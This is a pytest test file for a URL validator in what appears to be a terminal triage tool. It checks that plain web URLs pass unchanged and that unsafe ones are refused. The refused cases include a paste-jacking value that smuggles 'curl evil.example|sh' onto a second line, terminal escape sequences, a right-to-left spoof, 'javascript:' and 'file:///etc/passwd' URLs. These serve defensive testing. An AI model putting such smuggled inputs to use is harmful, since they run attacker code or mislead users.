"""The one check for a URL that leaves the app (clipboard, opener, OSC 8 link)."""

from __future__ import annotations

import pytest

from triage_tui.core.sanitize import sanitize
from triage_tui.core.urls import plain_web_url


@pytest.mark.parametrize(
    "url",
    [
        "https://example.com/a",
        "http://example.com",
        "https://example.com/p?q=1&r=a%20b#frag",
        "https://bücher.example/ü",
        "http://[::1]:8080/x",
    ],
)
def test_plain_http_urls_pass_unchanged(url: str) -> None:
    assert plain_web_url(url) == url


@pytest.mark.parametrize(
    "url",
    [
        None,
        "",
        "https://example.com/a\ncurl evil.example|sh",  # paste-jacking: a second line
        "https://example.com/a\rcurl evil.example|sh",
        "https://example.com/a\tb",
        "https://example.com/a b",
        "https://example.com/a\u00a0b",  # no-break space
        "https://example.com/a\u2028b",
        " https://example.com/a",
        "https://example.com/\x1b]0;pwned\x07",
        sanitize("https://example.com/\x1b]0;pwned\x07"),  # the sanitizer's stand-ins
        sanitize("https://example.com/\u202egnp.exe"),
        "https://example.com/\u200b",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "ftp://example.com/x",
        "https://",
        "https:///path",
        "http://[::1",
        "http://example.com:99999/",
        "https://example.com/" + "a" * 10_000,
    ],
)
def test_anything_else_is_refused(url: str | None) -> None:
    assert plain_web_url(url) is None
